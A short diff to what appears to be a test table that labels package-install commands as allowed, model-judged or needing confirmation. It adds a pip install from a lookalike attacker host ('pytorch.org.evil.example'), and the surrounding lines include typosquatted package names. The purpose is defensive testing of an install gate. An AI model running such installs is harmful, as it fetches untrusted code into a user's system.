@@ -73,7 +73,9 @@ llm    npm install zod left-padd
 ask    npx cowsayy
 
 # a well-known name from another place
-llm    pip install --index-url https://download.pytorch.org/whl/cpu torch
+allow  pip install --index-url https://download.pytorch.org/whl/cpu torch torchvision
+llm    pip install --index-url https://download.pytorch.org/whl/cpu torch requests
+ask    pip install --index-url https://download.pytorch.org.evil.example/whl/cpu torch
 llm    npm install --registry https://registry.npmjs.org zod
 llm    poetry add --source private requests
 ask    pip install "requests @ https://files.example/requests.tar.gz"
